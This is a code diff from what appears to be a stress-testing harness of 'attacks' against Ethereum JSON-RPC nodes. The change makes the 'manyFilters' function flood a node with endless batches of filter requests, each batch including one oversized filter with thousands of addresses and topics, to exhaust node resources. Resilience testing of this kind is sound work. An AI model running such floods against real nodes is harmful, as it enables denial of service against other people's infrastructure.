@@ -34,10 +34,20 @@ export const manyHeads: Attack = async (target) => {
 
 const FILTERS = ['eth_newFilter', 'eth_newBlockFilter', 'eth_newPendingTransactionFilter']
 
-/** Creates filters without end, in batches. */
-export const manyFilters: Attack = async (target) => (stop, count) =>
-  repeat(1, stop, count, async () => {
-    const batch = Array.from({ length: 300 }, (_, id) => call(FILTERS[id % 3]!, id % 3 === 0 ? [{}] : [], id))
-    const answers = await callAt<{ error?: object }[]>(target, target.config.urls.jsonrpc, batch)
-    return answers.some(({ error }) => error) ? 'refused' : 'created'
-  })
+/** A filter of as many addresses and topics as a request can have. */
+const heavyFilter = (): object => {
+  const list = (digits: number, first = 0): string[] =>
+    Array.from({ length: 1000 }, (_, i) => `0x${(first + i).toString(16).padStart(digits, '0')}`)
+  return { address: list(40), topics: [0, 1, 2, 3].map((position) => list(64, position * 1000)) }
+}
+
+/** Creates filters without end, in batches; one of each batch has thousands of addresses and topics. */
+export const manyFilters: Attack = async (target) => {
+  const batch = Array.from({ length: 60 }, (_, id) => call(FILTERS[id % 3]!, id % 3 === 0 ? [{}] : [], id))
+  const body = [...batch, call('eth_newFilter', [heavyFilter()])]
+  return (stop, count) =>
+    repeat(1, stop, count, async () => {
+      const answers = await callAt<{ error?: object }[]>(target, target.config.urls.jsonrpc, body)
+      return answers.some(({ error }) => error) ? 'refused' : 'created'
+    })
+}
